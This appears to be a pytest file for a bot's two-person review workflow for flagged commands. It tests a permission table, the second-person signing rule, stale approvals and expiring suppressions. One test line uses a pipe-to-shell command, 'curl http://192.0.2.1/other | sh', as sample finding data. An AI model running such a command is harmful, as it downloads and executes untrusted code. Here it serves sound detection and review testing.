"""Every state, every verb, everybody: what the table allows leads where it says, all else is refused with a sentence."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest

from bot.core.review.facts import CLOCK, Known, Step
from bot.core.review.quiet import suppressions
from bot.core.review.steps import decide, hats, involved
from bot.core.review.table import DONE, NEEDS, SECOND, TABLE, TURNS, WHO, Hat, State, Verb
from tests.reviews.world import ANA, BEN, CALLED, GUEST, KNOWN, NOBODY, NOW, OMAR, RAJ, RHEA, flag, move, review

EVERYBODY = {
    "owner": ANA,
    "viewer": BEN,
    "reviewer": RHEA,
    "admin on call": OMAR,
    "on-call": CALLED,
    "guest in the reviewers": GUEST,
    "nobody": NOBODY,
    "bot": CLOCK,
}
WORN = {
    "owner": {Hat.OWNER},
    "viewer": set(),
    "reviewer": {Hat.REVIEWER},
    "admin on call": {Hat.REVIEWER, Hat.ADMIN, Hat.ON_CALL},
    "on-call": {Hat.ON_CALL},
    "bot": {Hat.BOT},
}
ON_CALL = frozenset({"@oncall"})


def at(state):
    """A review of Ana's in a state, answered by her where that state has an answer."""
    answered = state in (State.ANSWERED, State.APPROVED, State.ESCALATED, State.SNOOZED)
    given = {"reason": "deploy", "answered_by": ANA.id} if answered else {}
    proposed = Step(NOW, "U0PROPOSER", Verb.PROPOSE, State.APPROVED, 1, "harmless", until=NOW + timedelta(days=30))
    return review(state=state, owner=KNOWN, turn=3, steps=(proposed,) if state is State.APPROVED else (), **given)


@pytest.mark.parametrize("state", list(State))
@pytest.mark.parametrize("verb", list(Verb))
@pytest.mark.parametrize("name", EVERYBODY)
def test_every_triple(state, verb, name):
    """8 states, 21 verbs, 8 people: allowed exactly where the table and the hats say so, and nothing changes where not."""
    before, who = at(state), EVERYBODY[name]
    outcome = decide(before, move(verb, who, turn=None if who.bot else 3), ON_CALL)
    allowed = (state, verb) in TABLE and bool(WORN.get(name, set()) & WHO[verb]) and not (name == "owner" and verb in SECOND)
    assert allowed == outcome.done
    if allowed:
        assert TABLE[state, verb] == outcome.review.state
        assert before.turn + (verb in TURNS) == outcome.review.turn
        assert (who.id, verb) == (outcome.review.steps[-1].who, outcome.review.steps[-1].verb)
    else:
        assert before == outcome.review
        assert outcome.why.endswith((".", "!"))


def test_every_verb_is_somebodys_and_every_state_is_reached():
    assert set(Verb) == set(WHO)
    assert set(State) == {State.OPEN, *TABLE.values()}
    assert set(Verb) == {verb for _, verb in TABLE}


def test_what_is_signed_leads_nowhere_but_to_a_new_beginning():
    """From a decision there is only the way to open it again, the end of the session and how that went, and to flag it no more."""
    assert {Verb.REOPEN, Verb.ENDED, Verb.END, Verb.PROPOSE, Verb.AGREE} == {verb for state, verb in TABLE if state in DONE}


@pytest.mark.parametrize("verb", sorted(SECOND))
@pytest.mark.parametrize(
    "who",
    [
        pytest.param(replace(RHEA, id=ANA.id), id="the owner, who is a reviewer too"),
        pytest.param(replace(OMAR, id="U0ANSWERED"), id="who answered for it, an admin on call"),
        pytest.param(replace(RAJ, email="Ana.Ferreira@example.com"), id="who has the e-mail of the session's principal"),
        pytest.param(replace(RAJ, id="U0MAYBE001"), id="who may be the owner"),
    ],
)
def test_the_second_person_is_a_second_person(verb, who):
    """Whoever is or may be the owner, or has answered, signs nothing, whatever their role."""
    states = [state for state, each in TABLE if each is verb]
    for state in states:
        first = decide(review(state=State.ASKED, owner=Known("U0ANSWERED")), move(Verb.MINE, replace(BEN, id="U0ANSWERED"))).review
        before = replace(first, state=state, owner=Known(ANA.id, candidates=("U0MAYBE001",)))
        assert involved(before, who)
        assert "second person" in decide(before, move(verb, who), ON_CALL).why


@pytest.mark.parametrize("verb", sorted(NEEDS))
def test_words_that_are_needed_must_be_there(verb):
    state = next(state for state, each in TABLE if each is verb)
    who = ANA if verb is Verb.MINE else OMAR
    outcome = decide(at(state), move(verb, who, note=" \n "), ON_CALL)
    assert (False, at(state)) == (outcome.done, outcome.review)
    assert NEEDS[verb] in outcome.why


def test_nothing_is_approved_without_a_reason():
    """An escalation that came of silence has no answer to sign."""
    outcome = decide(review(state=State.ESCALATED, owner=KNOWN), move(Verb.APPROVE, RHEA))
    assert "Nobody has given a reason" in outcome.why


def test_a_snooze_ends_ahead():
    for until in (None, NOW, NOW - timedelta(days=1)):
        assert not decide(at(State.ANSWERED), move(Verb.SNOOZE, RHEA, until=until)).done


def test_a_second_click_changes_nothing_and_says_so():
    first = decide(at(State.ANSWERED), move(Verb.APPROVE, RHEA, turn=3))
    again = decide(first.review, move(Verb.APPROVE, RHEA, turn=3, at=NOW + timedelta(seconds=1)))
    assert (True, False, first.review) == (again.again, again.done, again.review)


def test_the_loser_is_told_who_was_first_and_when():
    first = decide(at(State.ANSWERED), move(Verb.APPROVE, RHEA, turn=3)).review
    lost = decide(first, move(Verb.REJECT, OMAR, turn=3), ON_CALL)
    assert f"<@{RHEA.id}> approved it <!date^{int(NOW.timestamp())}^" in lost.why
    assert first == lost.review


def test_a_button_of_an_earlier_round_is_stale():
    """A signature is for what was seen: an approval of the answer before does not approve the next."""
    first = decide(at(State.ANSWERED), move(Verb.APPROVE, RHEA, turn=3)).review
    again = decide(decide(first, move(Verb.REOPEN, RHEA, turn=4)).review, move(Verb.MINE, ANA, turn=5, note="other")).review
    assert State.ANSWERED is again.state
    assert "from before" in decide(again, move(Verb.APPROVE, OMAR, turn=3), ON_CALL).why
    assert decide(again, move(Verb.APPROVE, OMAR, turn=6), ON_CALL).done


def test_where_nobody_knows_the_owner_whoever_says_so_is_it():
    """Then they have answered, and somebody else signs."""
    asked = review(owner=Known("", "no way to know"))
    answered = decide(asked, move(Verb.MINE, RHEA, turn=0)).review
    assert (State.ANSWERED, RHEA.id, "claimed") == (answered.state, answered.owner.id, answered.owner.sure)
    assert "second person" in decide(answered, move(Verb.APPROVE, RHEA, turn=1)).why
    assert decide(answered, move(Verb.APPROVE, RAJ, turn=1)).done


def test_among_candidates_only_they_may_answer():
    asked = review(owner=Known("", "the map fits 2 people", candidates=(ANA.id, BEN.id)))
    assert not decide(asked, move(Verb.MINE, RHEA)).done
    assert decide(asked, move(Verb.MINE, BEN)).done
    assert {Hat.OWNER} == set(hats(asked, BEN))


def test_what_is_found_after_the_answer_asks_again():
    """A reason was given for what was known then."""
    more = flag(flag().level, flag().session.id, replace(flag().findings[0], rule="other", line=9))
    after = decide(at(State.ANSWERED), move(Verb.FLAG, CLOCK, flag=more)).review
    assert (State.ASKED, "", 4, 2) == (after.state, after.reason, after.turn, len(after.flag.findings))


def test_long_words_are_cut():
    after = decide(at(State.ASKED), move(Verb.MINE, ANA, note="x" * 5000, ticket="t" * 500)).review
    assert (1000, 100) == (len(after.reason), len(after.ticket))


@pytest.mark.parametrize("proposer", [pytest.param(ANA, id="the owner"), pytest.param(RHEA, id="a reviewer")])
def test_two_people_flag_it_no_more(proposer):
    """Who proposed it does not agree to it, nor does the owner; before both have spoken it is flagged as before."""
    signed = at(State.APPROVED)
    signed = replace(signed, steps=())
    assert not decide(signed, move(Verb.AGREE, RAJ, turn=3)).done
    proposed = decide(signed, move(Verb.PROPOSE, proposer, turn=3, until=NOW + timedelta(days=30))).review
    assert () == suppressions([proposed])
    for alone in (proposer, ANA):
        assert "second person" in decide(proposed, move(Verb.AGREE, replace(alone, role=RHEA.role), turn=4)).why
    both = decide(proposed, move(Verb.AGREE, RAJ, turn=4)).review
    [quiet] = suppressions([both])
    assert ("pipe-to-shell", proposer.id, "deploy of CHG-1") == (quiet.rule, quiet.owner, quiet.reason)
    finding = both.flag.findings[0]
    assert quiet.fits(finding, (NOW + timedelta(days=30)).date())
    assert not quiet.fits(finding, (NOW + timedelta(days=31)).date())
    assert not quiet.fits(replace(finding, text="curl http://192.0.2.1/other | sh"), NOW.date())
    assert () == suppressions([decide(both, move(Verb.REOPEN, RAJ, turn=5)).review])
